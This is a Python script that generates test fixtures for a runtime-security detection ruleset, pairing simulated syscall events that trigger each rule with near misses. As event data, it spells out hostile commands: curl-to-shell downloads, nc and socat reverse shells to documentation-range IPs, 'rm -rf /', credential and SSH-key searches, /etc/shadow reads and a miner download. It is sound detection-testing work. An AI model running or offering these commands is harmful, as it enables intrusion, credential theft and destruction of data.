#!/usr/bin/env python3
"""Generates tests/scenario/fixtures/default_rules.jsonl, the scenario fixtures for the default
ruleset in rules/ (expectations: tests/scenario/default_rules_test.cpp).

Each event's evt.num is <rule index><k>: odd k fires the rule, even k is a near miss; ts is
1718000000 s + num s. Run from the repository root after changing a scenario:

    python3 tests/scenario/default_rules_fixtures.py
"""
import itertools
import json
import os

BASE_S = 1718000000
_pid = itertools.count(20000)


def ts(num):
    return (BASE_S + num) * 1_000_000_000


def P(name, exepath, args=(), uid=0, user="root", parent=None, **kw):
    """A process (docs/replay-format.md, `proc`). gid/group follow uid/user."""
    d = {"pid": kw.pop("pid", next(_pid)), "name": name, "exepath": exepath, "args": list(args),
         "uid": uid, "user": user, "gid": uid, "group": user}
    if parent is not None:
        d["parent"] = parent
    d.update(kw)
    return d


def child(parent, name, exepath, args=(), **kw):
    """A process started by `parent` with its user, terminal, login uid and cwd."""
    inherited = {k: parent[k] for k in ("tty", "loginuid", "loginname", "cwd", "sid")
                 if k in parent}
    inherited.update(kw)
    return P(name, exepath, args, parent["uid"], parent["user"], parent, **inherited)


# ---- host process trees ------------------------------------------------------------------
SYSTEMD = P("systemd", "/usr/lib/systemd/systemd", ["--system", "--deserialize", "31"], pid=1,
            start_ts=1717913600000000000)
SSHD = P("sshd", "/usr/sbin/sshd", ["-D"], parent=SYSTEMD, pid=812)
ALICE_SSHD = P("sshd", "/usr/sbin/sshd", ["-D", "-R"], 1000, "alice",
               P("sshd", "/usr/sbin/sshd", ["-D", "-R"], parent=SSHD, pid=4100), pid=4105)
ALICE_SHELL = P("bash", "/usr/bin/bash", [], 1000, "alice", ALICE_SSHD, pid=4106, sid=4106,
                tty=34816, loginuid=1000, loginname="alice", cwd="/home/alice/")
SUDO = child(ALICE_SHELL, "sudo", "/usr/bin/sudo", ["-i"], pid=4200)
SUDO["uid"], SUDO["user"], SUDO["gid"], SUDO["group"] = 0, "root", 0, "root"
ROOT_SHELL = child(SUDO, "bash", "/usr/bin/bash", [], pid=4202, cwd="/root/")
APACHE = P("apache2", "/usr/sbin/apache2", ["-k", "start"], 33, "www-data",
           P("apache2", "/usr/sbin/apache2", ["-k", "start"], parent=SYSTEMD, pid=1400),
           pid=1411, cwd="/var/www/")
PHP_FPM = P("php-fpm8.2", "/usr/sbin/php-fpm8.2", [], 33, "www-data",
            P("php-fpm8.2", "/usr/sbin/php-fpm8.2",
              ["--nodaemonize", "--fpm-config", "/etc/php/8.2/fpm/php-fpm.conf"],
              parent=SYSTEMD, pid=900), pid=9123, cwd="/var/www/html/")
CRON = P("cron", "/usr/sbin/cron", ["-f", "-P"], parent=P("cron", "/usr/sbin/cron", ["-f", "-P"],
                                                          parent=SYSTEMD, pid=700))
KUBELET = P("kubelet", "/usr/bin/kubelet", ["--config=/var/lib/kubelet/config.yaml"],
            parent=SYSTEMD, pid=1100)

# ---- containers ----------------------------------------------------------------------------
def ctr(full_id, name, image, ns, pod, privileged=False, start_ts=1717996400000000000):
    c = {"full_id": full_id, "name": name, "type": "containerd", "image": image,
         "privileged": privileged, "start_ts": start_ts}
    if pod:
        c["k8s_pod_name"], c["k8s_ns_name"] = pod, ns
    return c


WEB = ctr("3f7a9c1e5b2d48a6c0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7",
          "k8s_web_web-7d9f8-abcde_shop", "docker.io/library/nginx:1.25.3", "shop",
          "web-7d9f8-abcde")
API = ctr("c0ffee0011223344556677889900aabbccddeeff00112233445566778899aabb",
          "k8s_orders_orders-api-5c6d7-xk2pq_shop", "ghcr.io/acme/orders-api:2.4.1", "shop",
          "orders-api-5c6d7-xk2pq")
PRIV = ctr("9b1c2d3e4f5a60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9",
           "k8s_node-debugger_node-debugger-x1_default", "docker.io/library/ubuntu:22.04",
           "default", "node-debugger-x1", privileged=True)
SYS = ctr("5e5e5e5e5e5e0718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9",
          "k8s_coredns_coredns-5d78c9869d-8xv2k_kube-system",
          "registry.k8s.io/coredns/coredns:v1.11.1", "kube-system", "coredns-5d78c9869d-8xv2k")
PROD = ctr("abcdefabcdef0718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9",
           "k8s_worker_report-worker-0_prod", "ghcr.io/acme/report-worker:1.0.0", "prod",
           "report-worker-0")

CAPS_DEFAULT = ("CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
                "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT "
                "CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP")
CAPS_ALL = CAPS_DEFAULT + " CAP_SYS_ADMIN CAP_SYS_MODULE CAP_SYS_PTRACE CAP_NET_ADMIN CAP_SYS_RAWIO"


def RUNC():
    return P("runc", "/usr/bin/runc", ["init"], start_ts=1717996399000000000)


def ctr_proc(name, exepath, args=(), parent=None, **kw):
    """A process inside a container, started by the runtime unless `parent` is given."""
    kw.setdefault("cwd", "/")
    kw.setdefault("exe_lower_layer", True)
    return P(name, exepath, args, kw.pop("uid", 0), kw.pop("user", "root"),
             parent if parent is not None else RUNC(), **kw)


NGINX_CTR = ctr_proc("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], pid=1, vpid=1)
NODE_CTR = ctr_proc("node", "/usr/local/bin/node", ["/app/server.js"], uid=1000, user="node",
                    cwd="/app/")
PY_CTR = ctr_proc("python3", "/usr/local/bin/python3.12", ["-m", "orders.api"], cwd="/app/")
PRIV_SHELL = ctr_proc("bash", "/usr/bin/bash", [], tty=34817, cwd="/root/",
                      cap_effective=CAPS_ALL)


# ---- events --------------------------------------------------------------------------------
EVENTS = []


def emit(num, typ, proc=None, args=None, res=None, fd=None, container=None, comment=None):
    ev = {"type": typ, "num": num, "ts": ts(num)}
    if res is not None:
        ev["res"] = res
    if args is not None:
        ev["args"] = args
    if proc is not None:
        ev["proc"] = proc
    if fd is not None:
        ev["fd"] = fd
    if container is not None:
        ev["container"] = container
    EVENTS.append((comment, ev))


def execve(num, proc, container=None, comment=None, typ="execve", flags=0):
    args = {"res": 0, "exe": proc.get("exe", proc["exepath"]), "args": " ".join(proc["args"]),
            "tid": proc["pid"], "pid": proc["pid"], "ptid": proc.get("parent", {}).get("pid", 0),
            "cwd": proc.get("cwd", "/"), "comm": proc["name"], "flags": {"text": str(flags)}}
    emit(num, typ, proc, args, container=container, comment=comment)


def openat(num, proc, name, flags, res=3, container=None, comment=None, resolved=None, mode=0):
    args = {"fd": res if res >= 0 else {"text": f"{res}", "raw": res},
            "dirfd": {"text": "-100(AT_FDCWD)", "raw": -100}, "name": name, "flags": flags,
            "mode": mode}
    fd = None
    if resolved is not None or res < 0:
        fd = {"num": res if res >= 0 else -1, "type": "file", "name": resolved or name,
              "nameraw": name}
    emit(num, "openat", proc, args, res=res, fd=fd, container=container, comment=comment)


def connect(num, proc, cip, cport, sip, sport, res=0, container=None, comment=None, fdnum=4):
    args = {"res": res, "tuple": f"{cip}:{cport}->{sip}:{sport}", "fd": fdnum}
    fd = {"num": fdnum, "type": "ipv4", "l4proto": "tcp", "cip": cip, "cport": cport,
          "sip": sip, "sport": sport, "connected": res == 0}
    emit(num, "connect", proc, args, res=res, fd=fd, container=container, comment=comment)


# 1 Shell spawned by network service
execve(11, P("sh", "/usr/bin/dash", ["-c", "curl -s http://203.0.113.50/x.sh | sh"], 33,
             "www-data", APACHE, cwd="/usr/lib/cgi-bin/"),
       comment="fires: apache2 runs a downloaded script through sh (command injection)")
execve(12, P("sh", "/usr/bin/dash", ["-c", "uname -p 2> /dev/null"], 33, "www-data", APACHE,
             cwd="/var/www/"),
       comment="near miss: apache2's allow-listed uname helper")
execve(13, ctr_proc("bash", "/bin/bash", ["-c", "id; cat /etc/passwd"], uid=82,
                    user="www-data",
                    parent=ctr_proc("php-fpm8.2", "/usr/local/sbin/php-fpm", [], uid=82,
                                    user="www-data")),
       container=WEB,
       comment="fires (and Shell started in container): php-fpm in a pod spawns bash")
execve(14, child(CRON, "sh", "/usr/bin/dash", ["-c", "/usr/local/bin/backup.sh"]),
       comment="near miss: cron (not a network service) runs a job through sh")

# 2 Service account interactive command
WWW_PTY = P("bash", "/usr/bin/bash", ["-i"], 33, "www-data",
            P("python3", "/usr/bin/python3.11", ["-c", "import pty; pty.spawn('/bin/bash')"],
              33, "www-data", P("sh", "/usr/bin/dash", ["-c", "python3 -c ..."], 33,
                                "www-data", APACHE)), tty=34822, cwd="/var/www/")
execve(21, child(WWW_PTY, "id", "/usr/bin/id"),
       comment="fires: www-data runs id on a pty after a python pty.spawn upgrade")
execve(22, child(ALICE_SHELL, "id", "/usr/bin/id"),
       comment="near miss: a regular user runs id on a terminal")
execve(23, P("bash", "/usr/bin/bash", ["-c", "cat /etc/passwd"], 1, "daemon", SSHD),
       comment="fires: sshd starts a command for the daemon account (no terminal)")
execve(24, P("id", "/usr/bin/id", [], 33, "www-data", APACHE),
       comment="near miss: www-data runs id without a terminal or sshd")

# 3 Netcat or socat executing a program
SH_CTR = ctr_proc("sh", "/bin/sh", ["-c", "nc -e /bin/sh 203.0.113.7 4444"],
                  parent=NODE_CTR, uid=1000, user="node")
execve(31, ctr_proc("nc", "/usr/bin/nc.traditional", ["-e", "/bin/sh", "203.0.113.7", "4444"],
                    parent=SH_CTR, uid=1000, user="node"), container=API,
       comment="fires: nc -e reverse shell in a pod")
execve(32, ctr_proc("nc", "/usr/bin/nc.openbsd", ["-zv", "orders-db", "5432"]), container=API,
       comment="near miss: nc used as a port check")
execve(33, child(ROOT_SHELL, "socat", "/usr/bin/socat",
                 ["TCP:203.0.113.7:443", "EXEC:/bin/bash,pty,stderr,setsid"]),
       comment="fires: socat reverse shell on the host")
execve(34, child(ROOT_SHELL, "socat", "/usr/bin/socat",
                 ["TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"]),
       comment="near miss: socat as a plain TCP relay")

# 4 Private key or password search
execve(41, child(ROOT_SHELL, "find", "/usr/bin/find", ["/", "-name", "id_rsa"]),
       comment="fires: find looks for SSH private keys")
execve(42, child(ALICE_SHELL, "grep", "/usr/bin/grep", ["root", "/etc/passwd"]),
       comment="near miss: grep in /etc/passwd for an account")
execve(43, child(ROOT_SHELL, "grep", "/usr/bin/grep",
                 ["-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"]),
       comment="fires: grep for PEM private key headers")
execve(44, child(ALICE_SHELL, "grep", "/usr/bin/grep", ["-rn", "TODO", "src/"]),
       comment="near miss: ordinary code search")

# 5 AWS credential search
execve(51, child(ROOT_SHELL, "grep", "/usr/bin/grep",
                 ["-r", "AWS_SECRET_ACCESS_KEY", "/home", "/root"]),
       comment="fires: grep for AWS secret keys")
execve(52, child(ALICE_SHELL, "grep", "/usr/bin/grep", ["-r", "aws_region", "config/"]),
       comment="near miss: grep for a non-secret AWS setting")
execve(53, ctr_proc("find", "/usr/bin/find", ["/", "-path", "*/.aws/credentials"],
                    parent=ctr_proc("sh", "/bin/sh", [], parent=NODE_CTR)), container=API,
       comment="fires: find for AWS CLI credential files in a pod")
execve(54, child(ALICE_SHELL, "aws", "/usr/local/bin/aws",
                 ["configure", "get", "aws_access_key_id"]),
       comment="near miss: the AWS CLI itself (not a search tool)")

# 6 Bulk data destruction tool
execve(61, child(ROOT_SHELL, "shred", "/usr/bin/shred",
                 ["-u", "-z", "-n", "3", "/var/lib/mysql/ibdata1"]),
       comment="fires: shred a database file")
execve(62, P("mkfs.ext4", "/usr/sbin/mkfs.ext4", ["/dev/nvme1n1"],
             parent=P("cloud-init", "/usr/bin/cloud-init", ["init"], parent=SYSTEMD)),
       comment="near miss: cloud-init formats a new data disk")
execve(63, ctr_proc("rm", "/bin/rm", ["-rf", "--no-preserve-root", "/"],
                    parent=ctr_proc("sh", "/bin/sh", [], parent=NODE_CTR)), container=API,
       comment="fires: rm -rf / with the safeguard disabled, in a pod")
execve(64, child(ALICE_SHELL, "rm", "/usr/bin/rm", ["-rf", "/tmp/build"]),
       comment="near miss: ordinary recursive delete")

# 7 Kernel module load from container
INSMOD_PRIV = ctr_proc("insmod", "/usr/bin/kmod", ["/tmp/diamorphine.ko"], parent=PRIV_SHELL,
                       exe="insmod", tty=34817, cwd="/root/", cap_effective=CAPS_ALL)
emit(71, "finit_module", INSMOD_PRIV, {"res": 0, "fd": 3, "uargs": "", "flags": 0}, res=0,
     container=PRIV, comment="fires: insmod in a privileged container")
emit(72, "finit_module",
     ctr_proc("insmod", "/usr/bin/kmod", ["/tmp/diamorphine.ko"], exe="insmod",
              cap_effective=CAPS_DEFAULT),
     {"res": {"text": "-1(EPERM)", "raw": -1}, "fd": 3, "uargs": "", "flags": 0}, res=-1,
     container=API, comment="near miss: no CAP_SYS_MODULE, the kernel refuses")

# 8 Kernel module load by unexpected program
emit(81, "finit_module", child(ROOT_SHELL, "insmod", "/usr/bin/kmod", ["/tmp/.x/rk.ko"],
                               exe="insmod", cap_effective=CAPS_ALL),
     {"res": 0, "fd": 3, "uargs": "", "flags": 0}, res=0,
     comment="fires: insmod of a module from /tmp on the host")
emit(82, "finit_module", P("modprobe", "/usr/bin/kmod", ["-q", "--", "br_netfilter"],
                           parent=SYSTEMD, exe="/sbin/modprobe"),
     {"res": 0, "fd": 3, "uargs": "", "flags": 0}, res=0,
     comment="near miss: modprobe loads a module on demand")
emit(84, "finit_module", child(ROOT_SHELL, "insmod", "/usr/bin/kmod", ["/tmp/.x/rk.ko"],
                               exe="insmod"),
     {"res": {"text": "-17(EEXIST)", "raw": -17}, "fd": 3, "uargs": "", "flags": 0}, res=-17,
     comment="near miss: the load failed (module already present)")


# 9 Ptrace attach or memory write; 10 Ptrace self-trace anti-debugging
def ptrace(num, proc, request, pid, container=None, comment=None):
    emit(num, "ptrace", proc, {"res": 0, "addr": {"text": "0", "raw": 0},
                               "data": {"text": "0", "raw": 0}, "request": request, "pid": pid},
         res=0, container=container, comment=comment)


GDB = child(ROOT_SHELL, "gdb", "/usr/bin/gdb", ["-p", "812"])
ptrace(91, GDB, "PTRACE_ATTACH", 812, comment="fires: gdb attaches to sshd")
ptrace(92, GDB, "PTRACE_GETREGS", 812, comment="near miss: reading registers only")
ptrace(93, ctr_proc("inject", "/tmp/.cache/inject", ["1", "/tmp/.cache/libx.so"],
                    parent=ctr_proc("sh", "/bin/sh", [], parent=NODE_CTR)),
       "PTRACE_POKETEXT", 1, container=API, comment="fires: code written into pid 1 of a pod")
ptrace(94, P("criu", "/usr/sbin/criu", ["dump", "-t", "4411"], parent=SYSTEMD),
       "PTRACE_SEIZE", 4411, comment="near miss: criu checkpoints a process")
ptrace(101, child(ROOT_SHELL, "kdevtmpfsi", "/tmp/kdevtmpfsi"), "PTRACE_TRACEME", 0,
       comment="fires: a miner makes itself untraceable")
ptrace(102, child(GDB, "gdb", "/usr/bin/gdb", ["-p", "812"]), "PTRACE_TRACEME", 0,
       comment="near miss: the inferior gdb forks before exec")

# 11 Program run from shared memory
execve(111, child(child(ALICE_SHELL, "sh", "/usr/bin/dash",
                       ["-c", "/dev/shm/.x/kswapd0 -o pool.example.net:3333"]),
                 "kswapd0", "/dev/shm/.x/kswapd0", ["-o", "pool.example.net:3333"],
                 exe="/dev/shm/.x/kswapd0", exe_writable=True),
       comment="fires: a binary in /dev/shm")
execve(112, child(ALICE_SHELL, "ls", "/usr/bin/ls", ["-la", "/dev/shm"]),
       comment="near miss: listing /dev/shm")
execve(113, child(ALICE_SHELL, "sh", "/usr/bin/dash", ["/dev/shm/run.sh"]),
       comment="fires: a shell runs a script from /dev/shm")
execve(114, child(ALICE_SHELL, "bash", "/usr/bin/bash", ["-c", "ls /dev/shm/"]),
       comment="near miss: a shell command that only mentions /dev/shm")
execve(115, ctr_proc("payload", "/dev/shm/payload", [], exe="./payload", cwd="/dev/shm/",
                     parent=ctr_proc("sh", "/bin/sh", [], parent=NODE_CTR)), container=API,
       comment="fires: ./payload run with /dev/shm as working directory, in a pod")

# 12 Fileless program run from memfd
execve(121, child(child(ALICE_SHELL, "python3", "/usr/bin/python3.11", ["/tmp/l.py"]), "3",
                 "/memfd:x (deleted)", [], exe="3", exe_from_memfd=True, exe_writable=True),
       typ="execveat", comment="fires: python loads a payload into a memfd and executes it")
execve(122, P("runc", "memfd:runc_cloned:/proc/self/exe", ["init"],
              parent=P("containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                       ["-namespace", "k8s.io"], parent=SYSTEMD),
              exe="runc", exe_from_memfd=True),
       comment="near miss: runc re-executes its memfd copy")


# 13 Namespace change by unexpected program
def setns(num, proc, nsfile, nstype, container=None, comment=None):
    emit(num, "setns", proc, {"res": 0, "fd": 3, "nstype": nstype}, res=0,
         fd={"num": 3, "type": "file", "name": nsfile}, container=container, comment=comment)


def unshare(num, proc, flags, container=None, comment=None):
    emit(num, "unshare", proc, {"res": 0, "flags": flags}, res=0, container=container,
         comment=comment)


setns(131, ctr_proc("nsenter", "/usr/bin/nsenter",
                    ["-t", "1", "-m", "-u", "-i", "-n", "sh"], parent=PRIV_SHELL,
                    tty=34817, cap_effective=CAPS_ALL),
      "/proc/1/ns/mnt", "CLONE_NEWNS", container=PRIV,
      comment="fires: nsenter into the host's namespaces from a privileged pod")
setns(132, P("runc:[1:CHILD]", "/usr/bin/runc", ["init"],
             parent=P("runc", "/usr/bin/runc", ["--root", "/run/containerd/runc/k8s.io"],
                      parent=SYSTEMD)),
      "/proc/4410/ns/net", "CLONE_NEWNET", comment="near miss: runc joins the pod sandbox")
unshare(133, child(ALICE_SHELL, "unshare", "/usr/bin/unshare", ["-Urm"]),
        "CLONE_NEWNS|CLONE_NEWUSER", comment="fires: unprivileged user namespace on the host")
unshare(134, P("(cron)", "/usr/lib/systemd/systemd", [], parent=SYSTEMD), "CLONE_NEWNS",
        comment="near miss: systemd sets up a unit's private mount namespace")
setns(136, P("calico", "/opt/cni/bin/calico", [], parent=P("containerd", "/usr/bin/containerd",
                                                            [], parent=SYSTEMD)),
      "/var/run/netns/cni-1b2c", "CLONE_NEWNET", comment="near miss: CNI plugin")

# 14 Credential file read by untrusted program
openat(141, child(ROOT_SHELL, "cat", "/usr/bin/cat", ["/etc/shadow"]), "/etc/shadow",
       "O_RDONLY", comment="fires: cat /etc/shadow in a root shell")
openat(142, P("unix_chkpwd", "/usr/sbin/unix_chkpwd", ["alice", "chkexpiry"],
              parent=P("sshd", "/usr/sbin/sshd", ["-D", "-R"], parent=SSHD)),
       "/etc/shadow", "O_RDONLY|O_CLOEXEC", comment="near miss: PAM's password helper")
openat(143, ctr_proc("python3", "/usr/local/bin/python3.12", ["-c", "print(open('/etc/shadow').read())"],
                     parent=ctr_proc("sh", "/bin/sh", [], parent=PY_CTR)),
       "/etc/shadow", "O_RDONLY|O_CLOEXEC", container=API,
       comment="fires: python reads /etc/shadow in a pod")
openat(144, child(ALICE_SHELL, "cat", "/usr/bin/cat", ["/etc/shadow"]), "/etc/shadow",
       "O_RDONLY", res=-13, comment="near miss: the open failed (EACCES)")
openat(146, P("grep", "/usr/bin/grep", ["-q", "^nagios:", "/etc/shadow"],
              parent=P("sh", "/usr/bin/dash",
                       ["/var/lib/dpkg/info/nagios-nrpe-server.postinst", "configure"],
                       parent=P("dpkg", "/usr/bin/dpkg", ["--configure", "-a"],
                                parent=ROOT_SHELL))),
       "/etc/shadow", "O_RDONLY", comment="near miss: a package maintainer script")

# 15 Path traversal read of sensitive file
openat(151, PHP_FPM, "/var/www/html/../../../etc/passwd", "O_RDONLY", res=7,
       resolved="/etc/passwd", comment="fires: php-fpm follows a traversal to /etc/passwd")
openat(152, PHP_FPM, "/var/www/html/app/../../vendor/autoload.php", "O_RDONLY", res=7,
       resolved="/var/www/vendor/autoload.php",
       comment="near miss: traversal to an ordinary application file")
openat(153, ctr_proc("node", "/usr/local/bin/node", ["/app/server.js"], uid=1000, user="node",
                     cwd="/app/"),
       "/app/public/../../../../root/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC", res=-2,
       resolved="/root/.ssh/id_rsa", container=API,
       comment="fires: a failed traversal attempt for root's SSH key in a pod")
openat(154, child(ALICE_SHELL, "cat", "/usr/bin/cat", ["../../../etc/passwd"]),
       "../../../etc/passwd", "O_RDONLY", resolved="/etc/passwd",
       comment="near miss: a person at a terminal")
openat(155, P("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
              ["-jar", "/opt/shop/shop.jar"], 999, "shop", SYSTEMD, cwd="/opt/shop/"),
       "/opt/shop/static/../../../../etc/shadow", "O_RDONLY", res=41, resolved="/etc/shadow",
       comment="fires (and Credential file read): traversal to /etc/shadow from a Java service")

# 15b Sensitive file opened through a path that does not lead to it
openat(157, PHP_FPM, "/tmp/xxxxxxxxxxxxxxxxxxxx", "O_RDONLY", res=8, resolved="/etc/passwd",
       comment="fires: a second thread rewrote the traversal path while the open ran")
openat(158, PHP_FPM, "/etc/localtime",
       "O_RDONLY|O_CLOEXEC", res=3, resolved="/usr/share/zoneinfo/Etc/UTC",
       comment="near miss: a symlink to an ordinary file")

# 16 Log file truncated
openat(161, ROOT_SHELL, "/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC",
       comment="fires: > /var/log/auth.log in a root shell")
openat(162, P("logrotate", "/usr/sbin/logrotate", ["/etc/logrotate.conf"], parent=SYSTEMD),
       "/var/log/nginx/access.log", "O_WRONLY|O_TRUNC", comment="near miss: logrotate")
openat(163, ctr_proc("sh", "/bin/sh", ["-c", "cat /dev/null > /var/log/nginx/error.log"],
                     parent=NGINX_CTR),
       "/var/log/nginx/error.log", "O_WRONLY|O_CREAT|O_TRUNC", container=WEB,
       comment="fires: log wiped in a pod")
openat(164, ROOT_SHELL, "/var/log/app.log", "O_WRONLY|O_CREAT|O_APPEND",
       comment="near miss: appending to a log")

# 17 Symlink to sensitive path created; 18 Hardlink
ALICE_LN = child(ALICE_SHELL, "ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/.s"])
emit(171, "symlinkat", ALICE_LN, {"res": 0, "target": "/etc/shadow",
                                  "linkdirfd": {"text": "-100(AT_FDCWD)", "raw": -100},
                                  "linkpath": "/tmp/.s"}, res=0,
     comment="fires: ln -s /etc/shadow /tmp/.s")
emit(172, "symlinkat", child(ROOT_SHELL, "ln", "/usr/bin/ln",
                             ["-s", "/etc/nginx/sites-available/shop",
                              "/etc/nginx/sites-enabled/shop"]),
     {"res": 0, "target": "/etc/nginx/sites-available/shop",
      "linkdirfd": {"text": "-100(AT_FDCWD)", "raw": -100},
      "linkpath": "/etc/nginx/sites-enabled/shop"}, res=0,
     comment="near miss: enabling an nginx site")
emit(173, "symlink", ctr_proc("ln", "/bin/ln", ["-s", "/root/.ssh/authorized_keys", "k"],
                              parent=ctr_proc("sh", "/bin/sh", [], parent=NGINX_CTR)),
     {"res": 0, "target": "/root/.ssh/authorized_keys", "linkpath": "k"}, res=0,
     container=WEB, comment="fires: link to root's authorized_keys in a pod")
emit(174, "symlinkat", P("ln", "/usr/bin/ln",
                         ["-sf", "/etc/ssh/sshd_config.d", "/etc/ssh/sshd_config.d.old"],
                         parent=P("sh", "/usr/bin/dash",
                                  ["/var/lib/dpkg/info/openssh-server.postinst", "configure"],
                                  parent=P("dpkg", "/usr/bin/dpkg", ["--configure", "-a"],
                                           parent=ROOT_SHELL))),
     {"res": 0, "target": "/etc/ssh/sshd_config.d",
      "linkdirfd": {"text": "-100(AT_FDCWD)", "raw": -100},
      "linkpath": "/etc/ssh/sshd_config.d.old"}, res=0,
     comment="near miss: a package maintainer script")
emit(181, "linkat", child(ROOT_SHELL, "ln", "/usr/bin/ln", ["/etc/shadow", "/tmp/.sh"]),
     {"res": 0, "olddir": {"text": "-100(AT_FDCWD)", "raw": -100}, "oldpath": "/etc/shadow",
      "newdir": {"text": "-100(AT_FDCWD)", "raw": -100}, "newpath": "/tmp/.sh", "flags": 0},
     res=0, comment="fires: ln /etc/shadow /tmp/.sh")
emit(182, "link", child(ROOT_SHELL, "useradd", "/usr/sbin/useradd", ["-m", "bob"]),
     {"res": 0, "oldpath": "/etc/passwd.4321", "newpath": "/etc/passwd.lock"}, res=0,
     comment="near miss: shadow-utils takes its lock file")

# 19 File written in system binary directory
openat(191, child(ROOT_SHELL, "cp", "/usr/bin/cp", ["/tmp/.x/ls", "/usr/bin/ls"]),
       "/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC", comment="fires: trojaned ls copied over")
openat(192, P("dpkg", "/usr/bin/dpkg", ["--unpack", "/var/cache/apt/archives/curl.deb"],
              parent=child(ROOT_SHELL, "apt-get", "/usr/bin/apt-get", ["install", "curl"])),
       "/usr/bin/curl.dpkg-new", "O_WRONLY|O_CREAT|O_EXCL", comment="near miss: dpkg unpacks")
openat(193, ctr_proc("curl", "/usr/bin/curl",
                     ["-so", "/usr/local/bin/xmrig", "http://203.0.113.50/xmrig"],
                     parent=ctr_proc("sh", "/bin/sh", [], parent=NGINX_CTR)),
       "/usr/local/bin/xmrig", "O_WRONLY|O_CREAT|O_TRUNC", container=WEB,
       comment="fires: a miner downloaded into /usr/local/bin in a pod")
openat(194, P("pip", "/usr/bin/python3.11", ["install", "flask"],
              parent=ROOT_SHELL, exe="/usr/bin/pip"),
       "/usr/local/bin/flask", "O_WRONLY|O_CREAT|O_TRUNC", comment="near miss: pip install")
BUILD = ctr("b111d0000000c0ffee0011223344556677889900aabbccddeeff001122334455",
            "buildkit-step-7", "docker.io/library/debian:12", None, None,
            start_ts=ts(198) - 4_000_000_000)
openat(198, ctr_proc("curl", "/usr/bin/curl",
                     ["-sLo", "/usr/local/bin/kubectl", "https://dl.k8s.io/kubectl"],
                     parent=ctr_proc("sh", "/bin/sh", ["-c", "curl -sLo /usr/local/bin/kubectl ..."])),
       "/usr/local/bin/kubectl", "O_WRONLY|O_CREAT|O_TRUNC", container=BUILD,
       comment="near miss: an image build step 4 s into its container")
openat(196, child(ALICE_SHELL, "python3", "/usr/bin/python3.11", []), "/usr/bin/python3.11",
       "O_RDONLY", comment="near miss: read-only open")

# 20 Configuration file written below /etc
openat(201, ROOT_SHELL, "/etc/ld.so.preload", "O_WRONLY|O_CREAT|O_TRUNC",
       comment="fires: echo > /etc/ld.so.preload")
openat(202, P("NetworkManager", "/usr/sbin/NetworkManager", ["--no-daemon"], parent=SYSTEMD),
       "/etc/resolv.conf", "O_WRONLY|O_CREAT|O_TRUNC", comment="near miss: NetworkManager")
openat(203, ctr_proc("python3", "/usr/local/bin/python3.12",
                     ["-c", "open('/etc/cron.d/sync','w').write(...)"],
                     parent=ctr_proc("sh", "/bin/sh", [], parent=PY_CTR)),
       "/etc/cron.d/sync", "O_WRONLY|O_CREAT|O_TRUNC", container=API,
       comment="fires: a cron job planted in a pod running for an hour")
FRESH = ctr("fe5b0a1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f90",
            "k8s_web_web-7d9f8-zzzzz_shop", "docker.io/library/nginx:1.25.3", "shop",
            "web-7d9f8-zzzzz", start_ts=ts(204) - 3_000_000_000)
openat(204, ctr_proc("envsubst", "/usr/bin/envsubst", ["${NGINX_ENVSUBST_FILTER}"],
                     parent=ctr_proc("sh", "/bin/sh", ["/docker-entrypoint.sh"], pid=1)),
       "/etc/nginx/conf.d/default.conf", "O_WRONLY|O_CREAT|O_TRUNC", container=FRESH,
       comment="near miss: the nginx entrypoint templates its config 3 s after start")
openat(206, P("sed", "/usr/bin/sed", ["-i", "s/^GRUB_TIMEOUT=.*/GRUB_TIMEOUT=1/", "/etc/default/grub"],
              parent=P("sh", "/usr/bin/dash",
                       ["/var/lib/dpkg/info/grub-pc.postinst", "configure"],
                       parent=P("dpkg", "/usr/bin/dpkg", ["--configure", "-a"],
                                parent=ROOT_SHELL))),
       "/etc/default/sedX1b2c3", "O_RDWR|O_CREAT|O_EXCL", comment="near miss: maintainer script")

# 21 SSH client to non-standard port
SSH_TUNNEL = child(ROOT_SHELL, "ssh", "/usr/bin/ssh",
                   ["-p", "443", "-R", "9000:localhost:22", "tunnel@198.51.100.23"])
connect(211, SSH_TUNNEL, "10.0.0.5", 53120, "198.51.100.23", 443,
        comment="fires: reverse tunnel over SSH on 443")
connect(212, child(ALICE_SHELL, "ssh", "/usr/bin/ssh", ["alice@198.51.100.23"]),
        "10.0.0.5", 53122, "198.51.100.23", 22, comment="near miss: SSH on port 22")
connect(213, ctr_proc("ssh", "/usr/bin/ssh", ["-p", "2222", "-N", "-D", "1080", "u@203.0.113.9"],
                      parent=ctr_proc("sh", "/bin/sh", [], parent=NODE_CTR)),
        "10.244.1.17", 41000, "203.0.113.9", 2222, container=API,
        comment="fires: SOCKS tunnel over SSH on 2222 from a pod")
connect(214, child(ALICE_SHELL, "ssh", "/usr/bin/ssh", ["-p", "2222", "bastion"]),
        "10.0.0.5", 53124, "10.0.3.4", 2222, comment="near miss: internal bastion on 2222")
connect(216, SSH_TUNNEL, "10.0.0.5", 53126, "198.51.100.23", 443,
        res=-111, comment="near miss: connection refused")

# 22 Kubernetes API server contacted from container
connect(221, ctr_proc("curl", "/usr/bin/curl",
                      ["-sk", "-H", "Authorization: Bearer ...",
                       "https://10.96.0.1/api/v1/secrets"],
                      parent=ctr_proc("sh", "/bin/sh", [], parent=NGINX_CTR)),
        "10.244.1.23", 51234, "10.96.0.1", 443, container=WEB,
        comment="fires: curl to the API server from a web pod")
connect(222, PY_CTR, "10.244.1.17", 51240, "10.96.12.34", 5432, container=API,
        comment="near miss: a database service in the cluster")
